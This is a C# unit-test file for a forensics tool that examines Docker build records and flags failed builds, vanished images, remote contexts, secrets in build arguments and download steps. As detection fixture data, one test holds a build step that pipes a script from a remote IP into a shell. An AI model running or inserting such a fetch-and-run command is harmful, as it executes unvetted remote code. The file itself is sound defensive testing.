using StoreForensics.Evidence;
using StoreForensics.Findings;
using StoreForensics.Model;
using StoreForensics.Model.Builds;
using StoreForensics.Model.Copies;
using StoreForensics.Primitives;
using StoreForensics.Tests.Stores;

namespace StoreForensics.Tests.Findings;

/// <summary>Rules about builds: what they are for, what is nearly so, and what is as it should be.</summary>
[TestFixture]
internal sealed class BuildRuleTests
{
    private static readonly StoreInfo s_store = new() { Name = "overlay2", Driver = "overlay2", Era = "layered", Root = new Origin("e", default) };

    [TestCase(2, "", "build-failed info")]
    [TestCase(1, "", "build-failed info")]
    [TestCase(2, "shop/web:1", "build-failed low")]
    [TestCase(2, "shop/web:2", "build-failed info")]
    [TestCase(null, "shop/web:1", "build-image-gone info")]
    [TestCase(null, "shop/web:2", "build-image-gone low")]
    public void Of_how_a_build_ended(int? code, string present, string expected)
    {
        Inventory inventory = With(Build("b", code is int error ? new BuildError(error, "exit code: 1") : null));
        if (present.Length > 0)
            inventory.Images.Add(Image(present));
        Assert.That(Found(inventory), Is.EqualTo(expected));
    }

    /// <summary>The newer of two builds of one name made the image that is there.</summary>
    [Test]
    public void Of_a_failure_before_a_success()
    {
        Inventory inventory = With(Build("a", new BuildError(2, "no")), Build("b", null));
        inventory.Images.Add(Image("shop/web:1"));
        inventory.Builds[1].Images.Add(inventory.Images[0]);
        Assert.That(Found(inventory), Is.EqualTo("build-failed info"));
    }

    /// <summary>Where the images were not collected nobody knows whether one is gone.</summary>
    [Test]
    public void Of_a_store_without_its_images() =>
        Assert.That(Found(With(Build("b", null, store: s_store with { HasImages = false }))), Is.Empty);

    [TestCase(5, "build-unrecorded info")]
    [TestCase(15, "")]
    [TestCase(null, "")]
    public void Of_what_only_a_client_knows(int? oldest, string expected)
    {
        var client = new BuildClientReference("default/default", "/src", "/src/Dockerfile", "default", null, s_store.Root, new Timestamp(10, 0));
        Inventory inventory = With(new BuildRecord { Id = "u", Store = s_store, Origin = s_store.Root, IsRecorded = false, Client = client });
        if (oldest is int seconds)
            inventory.Builds.Add(new BuildRecord { Id = "k", Store = s_store, Origin = s_store.Root, Started = new(seconds, 0), Completed = new(20, 0) });
        Assert.That(Found(inventory), Is.EqualTo(expected));
    }

    /// <summary>When a client asked for a build is a file's time, which this copy made anew.</summary>
    [Test]
    public void Of_a_copy_without_times()
    {
        Inventory inventory = With(Build("k", new BuildError(2, "no")));
        var client = new BuildClientReference("default/default", "/src", null, "default", null, s_store.Root, new Timestamp(10, 0));
        inventory.Builds.Add(new BuildRecord { Id = "u", Store = s_store, Origin = s_store.Root, IsRecorded = false, Client = client });
        Assert.That(Found(inventory), Is.EqualTo("build-failed info, build-unrecorded info"));
        inventory.Copies["e"] = new CopyFacts { Lost = CopyLoss.FileTimes };
        Assert.That(Found(inventory), Is.EqualTo("build-failed info"));
    }

    [Test]
    public void Of_what_went_in()
    {
        var document = new EntryRef(new MadeStore().File("p", ""), EvidenceTree.Root);
        Inventory inventory = With(Build("b", null, ("context", "https://git.example/a.git#main")));
        inventory.Builds[0].Provenance = new BuildProvenance(null, "sha256:00", document) { Secrets = ["npm"] };
        inventory.Images.Add(Image("shop/web:1"));
        inventory.Builds[0].Images.Add(inventory.Images[0]);
        Assert.That(Found(inventory), Is.EqualTo("build-remote-context low, build-secret info"));
    }

    /// <summary>The steps of an image that is gone are looked at in the build's log; of one that is there, in its history.</summary>
    [TestCase(false, true)]
    [TestCase(true, false)]
    public void Of_what_its_steps_did(bool isPresent, bool isFound)
    {
        Inventory inventory = With(Build("b", null));
        inventory.Builds[0].Vertices = [new BuildVertex("sha256:aa", "[2/2] RUN wget -q -O - http://192.0.2.44/setup.sh | sh")];
        inventory.Images.Add(Image("shop/web:1"));
        if (isPresent)
            inventory.Builds[0].Images.Add(inventory.Images[0]);
        Assert.That(Found(inventory).Contains("download", StringComparison.Ordinal), Is.EqualTo(isFound), Found(inventory));
    }

    /// <summary>Arguments are in the builder's record, whether the image keeps them or not.</summary>
    [TestCase("build-arg:NPM_TOKEN", "abc123def", "secret-in-metadata medium, build-image-gone low")]
    [TestCase("build-arg:VERSION", "1.0", "build-image-gone low")]
    public void Of_its_arguments(string name, string value, string expected) => Assert.That(Found(With(Build("b", null, (name, value)))), Is.EqualTo(expected));

    private static BuildRecord Build(string id, BuildError? error, (string Key, string Value) attribute = default, StoreInfo? store = null) => new()
    {
        Id = id,
        Store = store ?? s_store,
        Origin = s_store.Root,
        Started = new Timestamp(1, 0),
        Completed = new Timestamp(2, 0),
        Error = error,
        Attributes = new Dictionary<string, string> { [attribute.Key ?? "filename"] = attribute.Value ?? "Dockerfile" },
        Exporters = [new BuildExporter("image", new Dictionary<string, string> { ["name"] = "docker.io/shop/web:1" })],
        Results = error is null ? [new BuildArtifact("sha256:01", null, null)] : [],
    };

    private static Image Image(string name)
    {
        var image = new Image { Id = "sha256:02", Store = s_store, Origin = s_store.Root };
        int colon = name.IndexOf(':', StringComparison.Ordinal);
        image.References.Add(new ImageReference(name[..colon], name[(colon + 1)..], null));
        return image;
    }

    private static Inventory With(params BuildRecord[] builds)
    {
        var inventory = new Inventory();
        inventory.Builds.AddRange(builds);
        return inventory;
    }

    private static string Found(Inventory inventory) =>
        string.Join(", ", FindingsExaminer.Find(inventory, null, new ProblemLog()).Select(f => $"{f.Rule} {f.Severity.ToString().ToLowerInvariant()}"));
}
